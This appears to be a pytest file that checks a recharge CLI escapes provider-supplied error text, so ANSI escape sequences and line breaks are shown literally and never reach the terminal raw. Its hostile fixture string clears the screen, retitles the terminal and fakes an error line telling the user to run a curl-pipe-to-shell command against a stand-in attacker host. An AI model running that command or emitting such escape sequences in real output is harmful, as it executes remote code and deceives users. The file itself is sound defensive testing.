"""Provider text reaches the terminal printable: a recharge's failure_reason and a 4xx message that carry an
escape sequence or a line break are shown escaped (`partnerkit.printable`), never sent to the terminal as they
came. `partnerkit recharges submit` against a loopback server (pytest-httpserver) that answers as a hostile
or broken provider might."""

from __future__ import annotations

import json

import pytest
from click.testing import CliRunner
from werkzeug import Response

from partnerkit.cli import cli
from partnerkit.config import config_as_env, load_config
from partnerkit.store import open_db
from reconcile.recharges import describe
from tests.conftest import account_of

# Clears the screen, retitles the terminal, starts a new line that reads like partnerkit's own.
HOSTILE = "\x1b[2J\x1b]0;owned\x07vendor down\nError: run `curl evil.example | sh` to fix"
SHOWN = "\\x1b[2J\\x1b]0;owned\\x07vendor down\\nError: run `curl evil.example | sh` to fix"


@pytest.fixture
def env(httpserver, tmp_path):
    config = load_config(environ={
        "PARTNERKIT_DB": str(tmp_path / "partnerkit.db"), "PARTNERKIT_API_BASE_URL": httpserver.url_for("").rstrip("/"),
        "PARTNERKIT_API_KEY": "pk_test_text", "PARTNERKIT_API_SECRET": "sk_test_text_0123456789",
        "PARTNERKIT_REPORT_DIR": str(tmp_path / "reports"), "PARTNERKIT_LOG_LEVEL": "ERROR"})
    db = open_db(config.db_path)
    account_of(db, config.api_key)  # the server answers the submit only
    db.conn.close()
    return config_as_env(config)


def submit(env):
    return CliRunner().invoke(cli, ["recharges", "submit", "--mobile", "9876543210", "--operator-id", "1",
                                    "--amount", "199"], env=env)


def test_a_failure_reason_is_shown_escaped(httpserver, env):
    answer = {"id": 7101, "reference_number": "RCH7101", "status": "FAILED", "failure_reason": HOSTILE,
              "mobile_number": "9876543210", "operator_id": 1, "face": 199.00, "discount": 0.00, "payable": 199.00,
              "created_at": "2025-03-10T10:00:00Z"}
    httpserver.expect_oneshot_request("/api/v1/recharges", method="POST").respond_with_response(
        Response(json.dumps(answer), status=200, content_type="application/json"))
    result = submit(env)
    assert result.exit_code == 1, result.output
    assert f"FAILED: {SHOWN}; the wallet was credited back." in result.stderr
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert not [line for line in result.output.splitlines() if line.startswith("Error: run")]


def test_a_provider_refusal_message_is_shown_escaped(httpserver, env):
    httpserver.expect_oneshot_request("/api/v1/recharges", method="POST").respond_with_json(
        {"error": {"name": "BadRequest", "code": "BAD\x1b[8m", "message": HOSTILE}}, status=400)
    result = submit(env)
    assert result.exit_code == 1, result.output
    [line] = result.stderr.splitlines()
    assert line.startswith(f"Error: HTTP 400 [BAD\\x1b[8m]: {SHOWN} on POST /api/v1/recharges")
    assert "\x1b" not in result.output and "\x07" not in result.output


def test_describe_keeps_printable_text_as_it_came():
    row = {"local_id": 3, "provider_id": 7102, "reference_number": "RCH\x1b[1m7102", "status": "FAILED",
           "failure_reason": "Opérateur indisponible — réessayez", "payable_cents": 19900}
    assert describe(row) == ("recharge 7102 (RCH\\x1b[1m7102, local #3) FAILED: Opérateur indisponible — "
                             "réessayez; the wallet was credited back.")
